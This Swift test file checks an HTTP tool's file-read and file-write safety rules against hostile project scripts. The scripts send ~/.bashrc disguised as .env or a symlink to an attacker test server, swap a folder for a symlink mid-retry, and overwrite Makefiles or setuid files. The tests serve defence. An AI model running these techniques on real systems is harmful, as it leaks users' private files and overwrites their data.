import APICallSafety
import Foundation
import Testing

/// Shows that each rule for reading and writing files is needed: without it, a private file is
/// sent, or a file of the user is overwritten.
@Suite("Each rule about files")
struct HostileFileRuleTests {
  /// A rule, and the harm that a stranger's project does without it.
  struct Row: Sendable, CustomTestStringConvertible {
    let rule: String
    /// The bash(1) commands in the project, the last of which is the call.
    var script: String
    /// The harm, as a condition of bash(1); nil if the server receives a private text.
    var harm: String?
    var testDescription: String { rule }

    init(_ rule: ReadRule, _ script: String, harm: String? = nil) {
      (self.rule, self.script, self.harm) = (rule.rawValue, script, harm)
    }

    init(_ rule: WriteRule, _ script: String, harm: String) {
      (self.rule, self.script, self.harm) = (rule.rawValue, script, harm)
    }
  }

  /// Makes a call that sends a file.
  private static func send(_ file: String) -> String {
    "printf 'url: %s\\nmethod: POST\\nfile: \"%s\"\\n' $URL \"\(file)\" > run.yaml; "
      + "timeout 120 apicall run run.yaml"
  }

  /// Runs a script that saves the response below a name in the script.
  private static func save(_ path: String, _ arguments: String = "") -> String {
    "printf 'inputs: {out: {default: \"%s\"}}\\nsteps: {a: {call: {url: %s}, save: <out>}}\\n' "
      + "\"\(path)\" $URL > run.yaml; timeout 120 apicall run run.yaml \(arguments)"
  }

  /// The same for the user's own script.
  private static func saveOwn(_ path: String) -> String {
    "apicall trust . > /dev/null; \(save(path))"
  }

  static let reads = [
    Row(.absolutePath, "cp ~/.bashrc notes; \(send("$PWD/notes"))"),
    Row(.outsideRoot, "touch apicall.yaml; \(send("../home/docs/diary.txt"))"),
    Row(.linkOutside, "ln -s ~/docs/diary.txt photo; \(send("photo"))"),
    Row(.dotName, "cp ~/.bashrc .env; \(send(".env"))"),
    Row(.homeFolder, "cd; \(send("docs/diary.txt"))"),
    Row(
      .ownFolder,
      "export XDG_DATA_HOME=$PWD/data; mkdir -p data/apicall; cp ~/.bashrc data/apicall/notes; "
        + send("data/apicall/notes")),
    // The server cooperates with the project's author, and swaps the folder between two attempts.
    Row(
      .replacedByLink,
      "mkdir d ../outside; tr A-Z0-9 a <~/.bashrc >d/f; cp ~/.bashrc ../outside/f; "
        + "touch -r d/f ../outside/f; printf 'url: %s/swap\\nmethod: PUT\\nfile: d/f\\nretry: 1\\n' "
        + "$URL > run.yaml; timeout 120 apicall run run.yaml"),
    Row(
      ReadRule.notRegular,
      "mkfifo pipe; printf 'steps: {a: {each: {csv: pipe}, call: {url: %s}}}\\n' $URL > run.yaml; "
        + "timeout 60 apicall run run.yaml; [ $? = 124 ] && touch waited", harm: "[ -e waited ]"),
    Row(
      .trustedOwner,
      "printf 'inputs: {k: {env: KEY}}\\nurl: %s/<k>\\n' $URL > run.yaml; apicall trust .; "
        + "chmod 666 run.yaml; KEY=$(cat ~/.bashrc) apicall run run.yaml"),
    Row(
      .trustedLink,
      "mkdir ../mine; apicall trust ../mine; printf 'inputs: {k: {env: KEY}}\\nsteps: {a: {each: "
        + "{csv: rows.csv}, call: {url: <each.url>, query: {k: <k>}}}}\\n' > ../mine/run.yaml; "
        + "printf 'url\\n%s/\\n' $URL > rows.csv; ln -s ../mine/run.yaml .; "
        + "KEY=$(cat ~/.bashrc) apicall run run.yaml"),
    Row(
      .foreignPart,
      "printf 'url: %s/part\\n' $URL > get.yaml; get='apicall run get.yaml --output x --continue'; "
        + "$get --timeout 300ms; mkdir c; cp get.yaml x.part.json c; cd c; printf 'evil66' > x.part; "
        + "chmod 600 x.part; $get --timeout 300ms",
      harm: "grep -q evil x"),
  ]

  static let writes = [
    Row(.absolutePath, saveOwn("$HOME/new"), harm: "[ -e ~/new ]"),
    Row(.parentFolder, saveOwn("../home/new"), harm: "[ -e ~/new ]"),
    Row(.dotName, saveOwn(".envrc"), harm: "[ -e .envrc ]"),
    Row(.link, "ln -s ~ logs; \(save("logs/new", "--into ."))", harm: "[ -e ~/new ]"),
    Row(.notRegular, "mkfifo pipe; \(saveOwn("pipe"))", harm: "[ ! -p pipe ]"),
    Row(
      .ownFolder,
      "mkdir -p ~/.local/state/apicall; \(save("apicall/trusted", "--into $HOME/.local/state"))",
      harm: "[ -e ~/.local/state/apicall/trusted ]"),
    Row(.untrustedPath, save("Makefile"), harm: "[ -e Makefile ]"),
    Row(
      .foreignFile, "echo all: > Makefile; \(save("Makefile", "--into ."))",
      harm: "grep -q owned Makefile"),
    Row(
      .trustedFolder,
      "touch apicall.yaml; mkdir ../mine; touch ../mine/apicall.yaml; apicall trust ../mine; "
        + "printf 'steps: {a: {call: {url: %s}, save: rows.csv}}\\n' $URL > run.yaml; cd ../mine; "
        + "apicall run ../project/run.yaml --into .",
      harm: "[ -e rows.csv ]"),
    Row(
      .specName,
      "printf 'steps: {a: {call: {url: %s/name}}, b: {call: {url: %s}, save: <a.body>}}\\n' "
        + "$URL $URL > run.yaml; apicall run run.yaml --into .",
      harm: "[ -e apicall.yaml ]"),
    Row(
      .replacedMode, "echo exit > tool; chmod 4755 tool; \(saveOwn("tool"))", harm: "[ -x tool ]"),
    Row(
      .foundLink,
      "echo 'host:   a' > loose; ln -s ../loose sub/x.yaml; apicall fmt .",
      harm: "[ ! -L sub/x.yaml ] || ! grep -q '   ' loose"),
  ]

  @Test("Every rule has a test")
  func all() {
    #expect(Self.reads.map(\.rule) == ReadRule.allCases.map(\.rawValue))
    #expect(Self.writes.map(\.rule) == WriteRule.allCases.map(\.rawValue))
  }

  @Test("A stranger's project does harm without the rule", arguments: reads + writes)
  func row(_ row: Row) throws {
    let held = try hasHarmed(row)
    #expect(!held.harm, "\(held.run)")
    let missing = try hasHarmed(row, without: row.rule)
    #expect(missing.harm, "\(missing.run)")
  }

  /// Runs the project, and may switch a rule off.
  private func hasHarmed(
    _ row: Row, without rule: String? = nil
  ) throws -> (harm: Bool, run: CommandRun) {
    let place = try HostilePlace(answering: Self.answer)
    let probe = row.harm.map { "\nif \($0); then echo HARM; fi" } ?? ""
    let run = try place.shell(row.script + probe, withoutRule: rule)
    return (row.harm == nil ? place.hasLeaked : run.output.hasSuffix("HARM\n"), run)
  }

  /// What the server responds to a request, and does in the project's folder.
  @Sendable private static func answer(_ request: String, _ project: String) -> String {
    if request.hasPrefix("PUT /swap"), swap(project) {
      return "HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\n\r\n"
    }
    if request.hasPrefix("GET /name ") { return HostilePlace.text("apicall.yaml") }
    guard request.hasPrefix("GET /part") else { return HostilePlace.text("owned") }
    guard request.contains("\r\nRange: ") else {
      // The rest never comes.
      return "HTTP/1.1 200 OK\r\nETag: \"v\"\r\nContent-Length: 10\r\n\r\nhonest"
    }
    return "HTTP/1.1 206 Partial Content\r\nETag: \"v\"\r\nContent-Range: bytes 6-9/10\r\n"
      + "Content-Length: 4\r\n\r\ntail"
  }

  /// Replaces a folder by a link to a folder outside, once.
  private static func swap(_ project: String) -> Bool {
    rename("\(project)/d", "\(project)/kept") == 0 && symlink("../outside", "\(project)/d") == 0
  }
}
